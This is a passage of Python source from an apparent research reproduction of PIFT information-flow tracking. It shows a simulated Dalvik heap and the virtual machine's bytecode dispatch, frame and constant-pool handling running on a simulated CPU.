def bits_to_double(bits: int) -> float:
    return struct.unpack("<d", struct.pack("<Q", bits & 0xFFFFFFFFFFFFFFFF))[0]


def float_to_bits(value: float) -> int:
    return struct.unpack("<I", struct.pack("<f", value))[0]


def bits_to_float(bits: int) -> float:
    return struct.unpack("<f", struct.pack("<I", bits & 0xFFFFFFFF))[0]


class Heap:
    """Allocates and registers VM heap values in one address space.

    The heap keeps an address → value map so that a 32-bit reference read
    out of a virtual register can be turned back into its Python-side
    object (the VM's equivalent of dereferencing).
    """

    STRING_CLASS = "java/lang/String"
    OBJECT_CLASS = "java/lang/Object"

    def __init__(self, space: AddressSpace) -> None:
        self.space = space
        self.classes: Dict[str, VMClass] = {}
        self.objects: Dict[int, HeapValue] = {}
        self._interned: Dict[str, VMString] = {}
        self.define_class(self.OBJECT_CLASS)
        self.define_class(self.STRING_CLASS)

    # -- classes -------------------------------------------------------------

    def define_class(
        self,
        name: str,
        fields: Sequence[Tuple[str, int]] = (),
        statics: Sequence[Tuple[str, int]] = (),
        superclass: Optional[str] = None,
    ) -> VMClass:
        if name in self.classes:
            raise ValueError(f"class {name!r} already defined")
        parent = self.classes[superclass] if superclass else None
        vm_class = VMClass(name, fields, statics, parent)
        vm_class.address = self.space.heap.alloc(16, align=8)
        if vm_class.static_size:
            vm_class.static_base = self.space.heap.alloc(
                vm_class.static_size, align=8
            )
        self.classes[name] = vm_class
        return vm_class

    def lookup_class(self, name: str) -> VMClass:
        try:
            return self.classes[name]
        except KeyError:
            raise KeyError(f"class {name!r} is not defined") from None

    def class_of(self, name: str) -> VMClass:
        if name not in self.classes:
            return self.define_class(name)
        return self.classes[name]

    # -- allocation ------------------------------------------------------------

    def _write_header(self, address: int, vm_class: VMClass) -> None:
        self.space.memory.write_u32(address, vm_class.address or 0)
        self.space.memory.write_u32(address + 4, 0)

    def new_string(self, text: str) -> VMString:
        """Allocate a string and silently write its characters.

        The silent write models data materialised outside the traced
        application code (constant pools, framework buffers); the traced
        copies *of* this data are what PIFT observes.
        """
        vm_class = self.lookup_class(self.STRING_CLASS)
        size = _STRING_DATA_OFFSET + max(2 * len(text), 2)
        address = self.space.heap.alloc(size, align=8)
        self._write_header(address, vm_class)
        self.space.memory.write_u32(address + _LENGTH_OFFSET, len(text))
        if text:
            self.space.memory.write_bytes(
                address + _STRING_DATA_OFFSET, text.encode("utf-16-le")
            )
        string = VMString(self, address, vm_class, len(text))
        self.objects[address] = string
        return string

    def new_string_buffer(self, capacity: int) -> VMString:
        """An uninitialised string-shaped buffer (StringBuilder storage)."""
        vm_class = self.lookup_class(self.STRING_CLASS)
        size = _STRING_DATA_OFFSET + max(2 * capacity, 2)
        address = self.space.heap.alloc(size, align=8)
        self._write_header(address, vm_class)
        self.space.memory.write_u32(address + _LENGTH_OFFSET, 0)
        string = VMString(self, address, vm_class, 0)
        self.objects[address] = string
        return string

    def intern_string(self, text: str) -> VMString:
        if text not in self._interned:
            self._interned[text] = self.new_string(text)
        return self._interned[text]

    def new_array(self, length: int, element_width: int = 4, class_name: str = "[I") -> VMArray:
        vm_class = self.class_of(class_name)
        size = _ARRAY_DATA_OFFSET + max(length * element_width, 1)
        address = self.space.heap.alloc(size, align=8)
        self._write_header(address, vm_class)
        self.space.memory.write_u32(address + _LENGTH_OFFSET, length)
        array = VMArray(self, address, vm_class, length, element_width)
        self.objects[address] = array
        return array

    def new_instance(self, class_name: str) -> VMInstance:
        vm_class = self.lookup_class(class_name)
        address = self.space.heap.alloc(max(vm_class.instance_size, 16), align=8)
        self._write_header(address, vm_class)
        instance = VMInstance(self, address, vm_class)
        self.objects[address] = instance
        return instance

    # -- dereferencing -----------------------------------------------------

    def deref(self, reference: int) -> HeapValue:
        if reference == 0:
            raise NullPointerError("null reference")
        try:
            return self.objects[reference]
        except KeyError:
            raise ValueError(f"{reference:#x} is not a live object") from None

    def maybe_deref(self, reference: int) -> Optional[HeapValue]:
        if reference == 0:
            return None
        return self.objects.get(reference)


class NullPointerError(RuntimeError):
    """The VM-level NullPointerException."""

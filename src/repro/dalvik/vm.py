"""The Dalvik-style virtual machine.

The VM *interprets* bytecode for semantics (control flow, allocation,
method dispatch) but every bytecode's data movement is *executed natively*
on the ISA CPU through the mterp routines of
:class:`~repro.dalvik.translator.MterpTranslator` — virtual registers live
in simulated memory at ``rFP + 4*v``, instruction fetches really read the
encoded code units, and argument passing really copies words between
frames.  PIFT, attached as a CPU observer, therefore sees the same
load/store structure the paper measured on gem5.

Oracle-assisted pieces: results the simplified ALU cannot compute
(division, floats, 64-bit multiply highs, shifts by register) are computed
here from the in-memory operand values and passed to the translator as
``RegisterPatch`` values with faithful register dataflow.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence, Tuple, Union

from repro.isa import asm
from repro.isa.cpu import CPU
from repro.dalvik.bytecode import Category, Format, Instr, OpcodeInfo, opcode
from repro.dalvik.objects import (
    Heap,
    HeapValue,
    NullPointerError,
    VMArray,
    VMInstance,
    VMString,
    bits_to_double,
    bits_to_float,
    double_to_bits,
    float_to_bits,
)
from repro.dalvik.translator import (
    FRAME_SAVE_BYTES,
    MterpTranslator,
    Routine,
    SELF_ARGS,
    SELF_EXCEPTION,
    SELF_POOL,
    SELF_RETVAL,
    SELF_SIZE,
    SELF_STATICS,
)

MASK_32 = 0xFFFFFFFF
MASK_64 = 0xFFFFFFFFFFFFFFFF


def _signed32(value: int) -> int:
    value &= MASK_32
    return value - 0x100000000 if value & 0x80000000 else value


def _signed64(value: int) -> int:
    value &= MASK_64
    return value - (1 << 64) if value & (1 << 63) else value


class VMError(RuntimeError):
    """A malformed program or unsupported construct."""


class UncaughtVMException(RuntimeError):
    """A VM-level throw propagated out of the outermost frame."""

    def __init__(self, exception: HeapValue) -> None:
        super().__init__(f"uncaught VM exception: {exception}")
        self.exception = exception


@dataclass(frozen=True)
class TryHandler:
    """One try/catch range: [start_label, end_label) -> handler_label."""

    start_label: str
    end_label: str
    handler_label: str
    catch_class: str = "java/lang/Throwable"


class Method:
    """A bytecode method: register file size, argument count, code.

    ``code`` may interleave ``str`` labels with :class:`Instr` objects; the
    labels resolve to the following instruction's index.
    """

    def __init__(
        self,
        name: str,
        registers: int,
        ins: int,
        code: Sequence[Union[Instr, str]],
        handlers: Sequence[TryHandler] = (),
    ) -> None:
        if ins > registers:
            raise VMError(f"{name}: ins={ins} exceeds registers={registers}")
        self.name = name
        self.registers = registers
        self.ins = ins
        self.handlers = list(handlers)
        self.labels: Dict[str, int] = {}
        self.code: List[Instr] = []
        for item in code:
            if isinstance(item, str):
                self.labels[item] = len(self.code)
            else:
                self.code.append(item)
        if not self.code:
            raise VMError(f"{name}: empty method body")
        # Assigned at registration time:
        self.code_base: Optional[int] = None
        self.instruction_offsets: List[int] = []
        self.record_address: Optional[int] = None
        self.pool_index: Optional[int] = None

    def label_index(self, label: str) -> int:
        try:
            return self.labels[label]
        except KeyError:
            raise VMError(f"{self.name}: unknown label {label!r}") from None

    def __repr__(self) -> str:
        return f"<Method {self.name} regs={self.registers} ins={self.ins}>"


#: Intrinsic signature: (vm, argument values, argument-area base address).
#: The handler may emit native code through vm.emit and must leave any
#: return value in the retval slot via an emitted store.
Intrinsic = Callable[["DalvikVM", List[int], int], None]


@dataclass
class Activation:
    """One frame on the VM call stack."""

    method: Method
    frame_base: int  # address of vregs[0]
    pc: int = 0  # index into method.code
    args_area: int = 0
    stack_bytes: int = 0  # bytes to release when this frame pops


class DalvikVM:
    """Executes methods, emitting mterp-translated native code on the CPU."""

    IBASE = 0x40F00000  # fictitious handler-table base for GOTO_OPCODE
    POOL_CAPACITY = 4096
    STATICS_BYTES = 64 * 1024

    def __init__(
        self, cpu: CPU, fused_dispatch: bool = False, telemetry=None
    ) -> None:
        """``fused_dispatch=True`` models Dalvik's trace JIT: translated
        bytecodes chain directly, dropping the GET_INST_OPCODE /
        GOTO_OPCODE pair from every routine (paper §4.1's JIT discussion).

        ``telemetry`` defaults to the hosting CPU's hub, so wiring the
        device's CPU is enough to get VM method spans as well.
        """
        self.cpu = cpu
        self._tel = None
        telemetry = telemetry if telemetry is not None else cpu.telemetry
        if telemetry is not None and telemetry.enabled:
            self._tel = telemetry
            m = telemetry.metrics
            self._m_method_calls = m.counter(
                "vm.method_calls", "entry-point method calls"
            )
            self._m_invokes = m.counter(
                "vm.invokes", "bytecode-level method invocations"
            )
            self._m_bytecodes = m.counter(
                "vm.bytecodes", "bytecodes interpreted"
            )
        self.space = cpu.address_space
        self.heap = Heap(self.space)
        self.translator = MterpTranslator()
        self.fused_dispatch = fused_dispatch
        #: Callables invoked as (vm, frame, instr) before each bytecode
        #: executes — used by VM-level trackers (e.g. the TaintDroid-style
        #: baseline) that propagate taint at variable granularity.
        self.step_observers: List[Callable[["DalvikVM", Activation, Instr], None]] = []
        self.methods: Dict[str, Method] = {}
        self.intrinsics: Dict[str, Intrinsic] = {}
        self._frames: List[Activation] = []
        self.call_depth_limit = 200

        # Interpreter thread state (rSELF).
        self.self_base = self.space.heap.alloc(SELF_SIZE, align=8)
        # Constant pool: strings, classes, method records.
        self.pool_base = self.space.heap.alloc(4 * self.POOL_CAPACITY, align=8)
        self._pool_next = 0
        self._pool_index: Dict[Tuple[str, str], int] = {}
        # Static fields area.
        self.statics_base = self.space.heap.alloc(self.STATICS_BYTES, align=8)
        self._statics_next = 0
        self._static_offsets: Dict[str, int] = {}
        # Call-stack discipline for frames: LIFO reuse of a fixed window,
        # like a real thread stack.  Reuse is what produces the
        # mistaint/untaint/retaint churn the paper's Figures 14-19 measure.
        self._stack_base = self.space.frames.alloc(512 * 1024, align=8)
        self._stack_limit = self._stack_base + 512 * 1024
        self._frame_sp = self._stack_base
        # Fixed scratch for intrinsic spill stores (reused every call).
        self.scratch_base = self.space.heap.alloc(64, align=8)
        memory = self.space.memory
        memory.write_u32(self.self_base + SELF_POOL, self.pool_base)
        memory.write_u32(self.self_base + SELF_STATICS, self.statics_base)
        self.cpu.registers["rSELF"] = self.self_base
        self.cpu.registers["rIBASE"] = self.IBASE

        from repro.dalvik import intrinsics as _core_intrinsics

        _core_intrinsics.register_core_intrinsics(self)

    # -- registration -----------------------------------------------------------

    def register_method(self, method: Method) -> Method:
        """Assemble a method's code units into code memory and pool it.

        Symbolic operands (field names, string constants, method names)
        resolve to their encoded literals here, so the mterp routines'
        code-unit fetches read real offsets and pool indices.
        """
        if method.name in self.methods or method.name in self.intrinsics:
            raise VMError(f"method {method.name!r} already registered")
        for instr in method.code:
            instr.validate(method.registers)
            self._resolve_literal(method, instr)
        units: List[int] = []
        method.instruction_offsets = []
        for instr in method.code:
            method.instruction_offsets.append(2 * len(units))
            units.extend(instr.encode())
        method.code_base = self.space.code.alloc(max(2 * len(units), 2), align=4)
        method.instruction_offsets = [
            method.code_base + offset for offset in method.instruction_offsets
        ]
        memory = self.space.memory
        for i, unit in enumerate(units):
            memory.write_u16(method.code_base + 2 * i, unit)
        # Switch tables live next to the code, like real dex payloads.
        for index, instr in enumerate(method.code):
            if instr.op.category is Category.SWITCH:
                self._assemble_switch_table(method, instr)
        method.record_address = self._new_method_record(
            method.registers, method.ins, method.code_base
        )
        method.pool_index = self._pool_entry("method", method.name, method.record_address)
        self.methods[method.name] = method
        return method

    def register_intrinsic(self, name: str, handler: Intrinsic) -> None:
        if name in self.methods or name in self.intrinsics:
            raise VMError(f"method {name!r} already registered")
        record = self._new_method_record(0, 0, 0)
        self._pool_entry("method", name, record)
        self.intrinsics[name] = handler

    _FIELD_CATEGORIES = (
        Category.IGET,
        Category.IGET_WIDE,
        Category.IPUT,
        Category.IPUT_WIDE,
    )
    _STATIC_CATEGORIES = (
        Category.SGET,
        Category.SGET_WIDE,
        Category.SPUT,
        Category.SPUT_WIDE,
    )
    _CLASS_CATEGORIES = (
        Category.CONST_CLASS,
        Category.CHECK_CAST,
        Category.INSTANCE_OF,
        Category.NEW_INSTANCE,
        Category.NEW_ARRAY,
    )

    def _resolve_literal(self, method: Method, instr: Instr) -> None:
        """Encode an instruction's symbol into its literal code unit."""
        category = instr.op.category
        if category in self._FIELD_CATEGORIES:
            class_name, field_name = self._resolve_field(instr.symbol)
            spec = self.heap.lookup_class(class_name).field(field_name)
            object.__setattr__(instr, "literal", spec.offset)
        elif category in self._STATIC_CATEGORIES:
            wide = category in (Category.SGET_WIDE, Category.SPUT_WIDE)
            offset = self.static_offset(
                instr.symbol or f"{method.name}.?", 8 if wide else 4
            )
            object.__setattr__(instr, "literal", offset)
        elif category is Category.CONST_STRING:
            if instr.symbol is None:
                raise VMError(f"{method.name}: const-string needs a symbol")
            object.__setattr__(
                instr, "literal", self.string_pool_index(instr.symbol)
            )
        elif category in self._CLASS_CATEGORIES:
            if instr.symbol:
                object.__setattr__(
                    instr, "literal", self.class_pool_index(instr.symbol)
                )
        elif category is Category.INVOKE:
            if instr.symbol is None:
                raise VMError(f"{method.name}: invoke needs a method symbol")
            object.__setattr__(
                instr, "literal", self._pool_reserve("method", instr.symbol)
            )

    def _pool_reserve(self, kind: str, symbol: str) -> int:
        """Get-or-create a pool slot without clobbering a resolved value."""
        key = (kind, symbol)
        if key in self._pool_index:
            return self._pool_index[key]
        return self._pool_entry(kind, symbol, 0)

    def _new_method_record(self, registers: int, ins: int, code_base: int) -> int:
        record = self.space.heap.alloc(8, align=4)
        self.space.memory.write_u32(record, (ins << 16) | registers)
        self.space.memory.write_u32(record + 4, code_base)
        return record

    def _pool_entry(self, kind: str, symbol: str, value: int) -> int:
        key = (kind, symbol)
        if key in self._pool_index:
            index = self._pool_index[key]
            self.space.memory.write_u32(self.pool_base + 4 * index, value)
            return index
        if self._pool_next >= self.POOL_CAPACITY:
            raise VMError("constant pool exhausted")
        index = self._pool_next
        self._pool_next += 1
        self._pool_index[key] = index
        self.space.memory.write_u32(self.pool_base + 4 * index, value)
        return index

    def string_pool_index(self, text: str) -> int:
        string = self.heap.intern_string(text)
        return self._pool_entry("string", text, string.address)

    def class_pool_index(self, name: str) -> int:
        vm_class = self.heap.class_of(name)
        return self._pool_entry("class", name, vm_class.address or 0)

    def method_pool_index(self, name: str) -> int:
        try:
            return self._pool_index[("method", name)]
        except KeyError:
            raise VMError(f"method {name!r} is not registered") from None

    def static_offset(self, qualified_name: str, width: int = 4) -> int:
        """Byte offset of ``Class.field`` in the statics area."""
        if qualified_name not in self._static_offsets:
            offset = (self._statics_next + width - 1) & ~(width - 1)
            if offset + width > self.STATICS_BYTES:
                raise VMError("statics area exhausted")
            self._static_offsets[qualified_name] = offset
            self._statics_next = offset + width
        return self._static_offsets[qualified_name]

    def _assemble_switch_table(self, method: Method, instr: Instr) -> None:
        """Allocate and fill the in-memory table a switch routine reads."""
        if instr.op.name == "packed-switch":
            count = len(instr.targets)
            base = self.space.code.alloc(max(4 * count, 4), align=4)
        else:
            count = len(instr.keys)
            base = self.space.code.alloc(max(4 * count, 4), align=4)
            for i, key in enumerate(instr.keys):
                self.space.memory.write_u32(base + 4 * i, key & MASK_32)
        object.__setattr__(instr, "_table_base", base)

    # -- frame and vreg access ----------------------------------------------------

    @property
    def current_frame(self) -> Activation:
        if not self._frames:
            raise VMError("no active frame")
        return self._frames[-1]

    def vreg_address(self, frame: Activation, register: int) -> int:
        if not 0 <= register < frame.method.registers:
            raise VMError(
                f"{frame.method.name}: v{register} out of range "
                f"(registers={frame.method.registers})"
            )
        return frame.frame_base + 4 * register

    def get_vreg(self, register: int, frame: Optional[Activation] = None) -> int:
        frame = frame or self.current_frame
        return self.space.memory.read_u32(self.vreg_address(frame, register))

    def get_vreg_wide(self, register: int, frame: Optional[Activation] = None) -> int:
        frame = frame or self.current_frame
        return self.space.memory.read_u64(self.vreg_address(frame, register))

    def set_vreg(self, register: int, value: int, frame: Optional[Activation] = None) -> None:
        """Silent (untraced) vreg write — used only for entry-point arguments."""
        frame = frame or self.current_frame
        self.space.memory.write_u32(self.vreg_address(frame, register), value & MASK_32)

    def set_vreg_wide(self, register: int, value: int, frame: Optional[Activation] = None) -> None:
        frame = frame or self.current_frame
        self.space.memory.write_u64(self.vreg_address(frame, register), value & MASK_64)

    def deref_vreg(self, register: int, frame: Optional[Activation] = None) -> HeapValue:
        return self.heap.deref(self.get_vreg(register, frame))

    @property
    def retval(self) -> int:
        return self.space.memory.read_u32(self.self_base + SELF_RETVAL)

    @property
    def retval_wide(self) -> int:
        return self.space.memory.read_u64(self.self_base + SELF_RETVAL)

    # -- execution ----------------------------------------------------------------

    def emit(self, routine_or_instructions) -> None:
        """Run a routine (or raw instruction list) on the CPU."""
        if isinstance(routine_or_instructions, Routine):
            routine = routine_or_instructions
            if self.fused_dispatch:
                from repro.dalvik.translator import fuse_dispatch

                routine = fuse_dispatch(routine)
            instructions = routine.instructions
        else:
            instructions = routine_or_instructions
        self.cpu.run(instructions)

    def call(self, method_name: str, args: Sequence[int] = ()) -> int:
        """Invoke a registered method from outside (an app entry point).

        ``args`` are placed in the method's last ``ins`` vregs, per the
        Dalvik calling convention.  Returns the 32-bit retval.
        """
        method = self.methods.get(method_name)
        if method is None:
            raise VMError(f"method {method_name!r} is not registered")
        if len(args) != method.ins:
            raise VMError(
                f"{method_name} expects {method.ins} argument words, got {len(args)}"
            )
        frame = self._push_activation(method)
        for i, value in enumerate(args):
            self.set_vreg(method.registers - method.ins + i, value, frame)
        self.cpu.registers["rFP"] = frame.frame_base
        self.cpu.registers["rPC"] = method.instruction_offsets[0]
        self.emit(self.translator.refetch())
        base_depth = len(self._frames) - 1
        if self._tel is not None:
            self._m_method_calls.inc()
            with self._tel.span("vm.method", method=method_name):
                self._run_until(base_depth)
        else:
            self._run_until(base_depth)
        return self.retval

    def _push_activation(self, method: Method) -> Activation:
        if len(self._frames) >= self.call_depth_limit:
            raise VMError("call depth limit exceeded")
        size = FRAME_SAVE_BYTES + 4 * max(method.registers, 1)
        size = (size + 7) & ~7
        if self._frame_sp + size > self._stack_limit:
            raise VMError("thread stack exhausted")
        base = self._frame_sp
        self._frame_sp += size
        frame = Activation(
            method, frame_base=base + FRAME_SAVE_BYTES, stack_bytes=size
        )
        self._frames.append(frame)
        return frame

    def _pop_activation(self) -> Activation:
        frame = self._frames.pop()
        self._frame_sp -= frame.stack_bytes
        return frame

    def _run_until(self, base_depth: int) -> None:
        """Interpret until the frame stack returns to ``base_depth``."""
        while len(self._frames) > base_depth:
            frame = self._frames[-1]
            if frame.pc >= len(frame.method.code):
                raise VMError(f"{frame.method.name}: fell off the end of the code")
            instr = frame.method.code[frame.pc]
            self._step(frame, instr, base_depth)

    # -- per-instruction dispatch --------------------------------------------------

    def _step(self, frame: Activation, instr: Instr, base_depth: int) -> None:
        for observer in self.step_observers:
            observer(self, frame, instr)
        if self._tel is not None:
            self._m_bytecodes.inc()
        category = instr.op.category
        handler = self._DISPATCH.get(category)
        if handler is None:
            raise VMError(f"unhandled category {category} for {instr.name}")
        handler(self, frame, instr, base_depth)

    def _advance(self, frame: Activation) -> None:
        frame.pc += 1

    def _branch_to(self, frame: Activation, label: str) -> None:
        frame.pc = frame.method.label_index(label)
        self.cpu.registers["rPC"] = frame.method.instruction_offsets[frame.pc]
        self.emit(self.translator.refetch())

    # .. simple categories ..........................................................

    def _do_nop(self, frame, instr, base_depth) -> None:
        self.emit(self.translator.nop(instr))
        self._advance(frame)

    def _do_move(self, frame, instr, base_depth) -> None:
        self.emit(self.translator.move(instr))
        self._advance(frame)

    def _do_move_wide(self, frame, instr, base_depth) -> None:
        self.emit(self.translator.move_wide(instr))
        self._advance(frame)

    def _do_move_result(self, frame, instr, base_depth) -> None:
        wide = instr.op.category is Category.MOVE_RESULT_WIDE
        self.emit(self.translator.move_result(instr, wide=wide))
        self._advance(frame)

    def _do_move_exception(self, frame, instr, base_depth) -> None:
        self.emit(self.translator.move_exception(instr))
        self._advance(frame)

    def _do_const(self, frame, instr, base_depth) -> None:
        self.emit(self.translator.const(instr))
        self._advance(frame)

    def _do_const_wide(self, frame, instr, base_depth) -> None:
        self.emit(self.translator.const_wide(instr))
        self._advance(frame)

    def _do_const_string(self, frame, instr, base_depth) -> None:
        if instr.symbol is None:
            raise VMError("const-string needs a symbol")
        index = self.string_pool_index(instr.symbol)
        self.emit(self.translator.const_pool(instr, index))
        self._advance(frame)

    def _do_const_class(self, frame, instr, base_depth) -> None:
        if instr.symbol is None:
            raise VMError("const-class needs a symbol")
        index = self.class_pool_index(instr.symbol)
        self.emit(self.translator.const_pool(instr, index))
        self._advance(frame)

    def _do_monitor(self, frame, instr, base_depth) -> None:
        self.emit(self.translator.monitor(instr))
        self._advance(frame)

    def _do_check_cast(self, frame, instr, base_depth) -> None:
        if instr.symbol is None:
            raise VMError("check-cast needs a class symbol")
        self.class_pool_index(instr.symbol)
        self.emit(self.translator.check_cast(instr))
        reference = self.get_vreg(instr.a, frame)
        if reference:
            value = self.heap.deref(reference)
            target = self.heap.class_of(instr.symbol)
            if not value.vm_class.is_subclass_of(target):
                self._throw_by_name(frame, "java/lang/ClassCastException", base_depth)
                return
        self._advance(frame)

    def _do_instance_of(self, frame, instr, base_depth) -> None:
        if instr.symbol is None:
            raise VMError("instance-of needs a class symbol")
        self.class_pool_index(instr.symbol)
        reference = self.get_vreg(instr.b, frame)
        target = self.heap.class_of(instr.symbol)
        result = 0
        if reference:
            result = int(self.heap.deref(reference).vm_class.is_subclass_of(target))
        self.emit(self.translator.instance_of(instr, result))
        self._advance(frame)

    def _do_array_length(self, frame, instr, base_depth) -> None:
        reference = self.get_vreg(instr.b, frame)
        if not reference:
            self._throw_by_name(frame, "java/lang/NullPointerException", base_depth)
            return
        self.emit(self.translator.array_length(instr))
        self._advance(frame)

    def _do_new_instance(self, frame, instr, base_depth) -> None:
        if instr.symbol is None:
            raise VMError("new-instance needs a class symbol")
        self.class_pool_index(instr.symbol)
        self.heap.class_of(instr.symbol)
        instance = self.heap.new_instance(instr.symbol)
        self.emit(self.translator.new_instance(instr, instance.address))
        self._advance(frame)

    def _do_new_array(self, frame, instr, base_depth) -> None:
        length = _signed32(self.get_vreg(instr.b, frame))
        if length < 0:
            self._throw_by_name(
                frame, "java/lang/NegativeArraySizeException", base_depth
            )
            return
        element_width = _element_width(instr.symbol or "[I")
        array = self.heap.new_array(length, element_width, instr.symbol or "[I")
        self.emit(self.translator.new_array(instr, array.address))
        self._advance(frame)

    # .. control flow ...............................................................

    def _do_goto(self, frame, instr, base_depth) -> None:
        if instr.symbol is None:
            raise VMError("goto needs a target label")
        self.emit(self.translator.goto(instr))
        self._branch_to(frame, instr.symbol)

    _IF_CONDITIONS = {
        "eq": lambda a, b: a == b,
        "ne": lambda a, b: a != b,
        "lt": lambda a, b: a < b,
        "ge": lambda a, b: a >= b,
        "gt": lambda a, b: a > b,
        "le": lambda a, b: a <= b,
    }

    def _do_if_test(self, frame, instr, base_depth) -> None:
        if instr.symbol is None:
            raise VMError("if needs a target label")
        self.emit(self.translator.if_test(instr))
        a = _signed32(self.get_vreg(instr.a, frame))
        b = _signed32(self.get_vreg(instr.b, frame))
        condition = instr.op.name.split("-")[1]
        if self._IF_CONDITIONS[condition](a, b):
            self._branch_to(frame, instr.symbol)
        else:
            self._fall_through_branch(frame)

    def _do_if_testz(self, frame, instr, base_depth) -> None:
        if instr.symbol is None:
            raise VMError("if needs a target label")
        self.emit(self.translator.if_testz(instr))
        a = _signed32(self.get_vreg(instr.a, frame))
        condition = instr.op.name.split("-")[1].rstrip("z")
        # eqz/nez/ltz/gez/gtz/lez compare against zero.
        cond_map = {"eq": a == 0, "ne": a != 0, "lt": a < 0, "ge": a >= 0,
                    "gt": a > 0, "le": a <= 0}
        if cond_map[condition]:
            self._branch_to(frame, instr.symbol)
        else:
            self._fall_through_branch(frame)

    def _fall_through_branch(self, frame: Activation) -> None:
        """Branch not taken: advance rPC past this instruction and refetch."""
        frame.pc += 1
        if frame.pc < len(frame.method.code):
            self.cpu.registers["rPC"] = frame.method.instruction_offsets[frame.pc]
        self.emit(self.translator.refetch())

    def _do_switch(self, frame, instr, base_depth) -> None:
        value = _signed32(self.get_vreg(instr.a, frame))
        table_base = getattr(instr, "_table_base", 0)
        if instr.op.name == "packed-switch":
            first_key = instr.keys[0] if instr.keys else 0
            self.emit(self.translator.packed_switch(instr, table_base, first_key))
            offset = value - first_key
            if 0 <= offset < len(instr.targets):
                self._branch_to(frame, instr.targets[offset])
            else:
                self._fall_through_branch(frame)
        else:
            comparisons = 1
            target: Optional[str] = None
            for i, key in enumerate(instr.keys):
                comparisons = i + 1
                if _signed32(key) == value:
                    target = instr.targets[i]
                    break
            self.emit(self.translator.sparse_switch(instr, table_base, comparisons))
            if target is not None:
                self._branch_to(frame, target)
            else:
                self._fall_through_branch(frame)

    # .. comparisons ...................................................................

    def _do_cmp(self, frame, instr, base_depth) -> None:
        name = instr.op.name
        if name == "cmp-long":
            a = _signed64(self.get_vreg_wide(instr.b, frame))
            b = _signed64(self.get_vreg_wide(instr.c, frame))
            result = (a > b) - (a < b)
            self.emit(self.translator.cmp_long(instr, result & MASK_32))
        else:
            wide = "double" in name
            if wide:
                a = bits_to_double(self.get_vreg_wide(instr.b, frame))
                b = bits_to_double(self.get_vreg_wide(instr.c, frame))
            else:
                a = bits_to_float(self.get_vreg(instr.b, frame))
                b = bits_to_float(self.get_vreg(instr.c, frame))
            if a != a or b != b:  # NaN bias
                result = -1 if name.startswith("cmpl") else 1
            else:
                result = (a > b) - (a < b)
            assert instr.op.helper is not None
            self.emit(
                self.translator.cmp_float(instr, result & MASK_32, instr.op.helper, wide)
            )
        self._advance(frame)

    # .. arrays ..........................................................................

    def _array_for(self, frame, register: int) -> VMArray:
        value = self.heap.deref(self.get_vreg(register, frame))
        if not isinstance(value, VMArray):
            raise VMError(f"v{register} does not hold an array")
        return value

    def _do_aget(self, frame, instr, base_depth) -> None:
        wide = instr.op.category is Category.AGET_WIDE
        try:
            array = self._array_for(frame, instr.b)
        except NullPointerError:
            self._throw_by_name(frame, "java/lang/NullPointerException", base_depth)
            return
        index = _signed32(self.get_vreg(instr.c, frame))
        if not 0 <= index < array.length:
            self._throw_by_name(
                frame, "java/lang/ArrayIndexOutOfBoundsException", base_depth
            )
            return
        if wide:
            self.emit(self.translator.aget(instr, width=8, wide=True))
        else:
            self.emit(self.translator.aget(instr, width=array.element_width))
        self._advance(frame)

    def _do_aput(self, frame, instr, base_depth) -> None:
        wide = instr.op.category is Category.APUT_WIDE
        is_object = instr.op.category is Category.APUT_OBJECT
        try:
            array = self._array_for(frame, instr.b)
        except NullPointerError:
            self._throw_by_name(frame, "java/lang/NullPointerException", base_depth)
            return
        index = _signed32(self.get_vreg(instr.c, frame))
        if not 0 <= index < array.length:
            self._throw_by_name(
                frame, "java/lang/ArrayIndexOutOfBoundsException", base_depth
            )
            return
        if is_object:
            self.emit(self.translator.aput_object(instr))
        elif wide:
            self.emit(self.translator.aput(instr, width=8, wide=True))
        else:
            self.emit(self.translator.aput(instr, width=array.element_width))
        self._advance(frame)

    # .. fields ..........................................................................

    def _resolve_field(self, symbol: Optional[str]) -> Tuple[str, str]:
        if not symbol or "." not in symbol:
            raise VMError(f"field symbol must be 'Class.field', got {symbol!r}")
        class_name, field_name = symbol.rsplit(".", 1)
        return class_name, field_name

    def _do_iget(self, frame, instr, base_depth) -> None:
        wide = instr.op.category is Category.IGET_WIDE
        if not self.get_vreg(instr.b, frame):
            self._throw_by_name(frame, "java/lang/NullPointerException", base_depth)
            return
        self.emit(self.translator.iget(instr, wide=wide))
        self._advance(frame)

    def _do_iput(self, frame, instr, base_depth) -> None:
        wide = instr.op.category is Category.IPUT_WIDE
        if not self.get_vreg(instr.b, frame):
            self._throw_by_name(frame, "java/lang/NullPointerException", base_depth)
            return
        self.emit(self.translator.iput(instr, wide=wide))
        self._advance(frame)

    def _do_sget(self, frame, instr, base_depth) -> None:
        wide = instr.op.category is Category.SGET_WIDE
        self.emit(self.translator.sget(instr, wide=wide))
        self._advance(frame)

    def _do_sput(self, frame, instr, base_depth) -> None:
        wide = instr.op.category is Category.SPUT_WIDE
        self.emit(self.translator.sput(instr, wide=wide))
        self._advance(frame)

    # .. arithmetic .......................................................................

    def _do_unary_int(self, frame, instr, base_depth) -> None:
        self.emit(self.translator.unary_int(instr))
        self._advance(frame)

    def _do_unary_wide(self, frame, instr, base_depth) -> None:
        self.emit(self.translator.unary_wide(instr))
        self._advance(frame)

    def _do_unary_float(self, frame, instr, base_depth) -> None:
        value = bits_to_float(self.get_vreg(instr.b, frame))
        result = float_to_bits(-value)
        self.emit(self.translator.unary_float(instr, result))
        self._advance(frame)

    def _do_convert(self, frame, instr, base_depth) -> None:
        name = instr.op.name
        if instr.op.helper is None:
            self.emit(self.translator.convert(instr))
            self._advance(frame)
            return
        src_wide = name.startswith(("long-", "double-"))
        dst_wide = name.endswith(("long", "double"))
        raw = (
            self.get_vreg_wide(instr.b, frame)
            if src_wide
            else self.get_vreg(instr.b, frame)
        )
        source_kind = name.split("-")[0]
        if source_kind == "int":
            value = _signed32(raw)
        elif source_kind == "long":
            value = _signed64(raw)
        elif source_kind == "float":
            value = bits_to_float(raw)
        else:
            value = bits_to_double(raw)
        target_kind = name.split("-to-")[1]
        bits = _convert_value(value, target_kind)
        result = (bits & MASK_32, (bits >> 32) & MASK_32)
        self.emit(self.translator.convert_helper(instr, result, src_wide, dst_wide))
        self._advance(frame)

    def _binop_operands(self, frame, instr, wide: bool) -> Tuple[int, int]:
        """Fetch the two raw operand values respecting the encoding variant."""
        name = instr.op.name
        getter = self.get_vreg_wide if wide else self.get_vreg
        if name.endswith("/2addr"):
            return getter(instr.a, frame), getter(instr.b, frame)
        if name.endswith("/lit16") or name.endswith("/lit8") or name == "rsub-int":
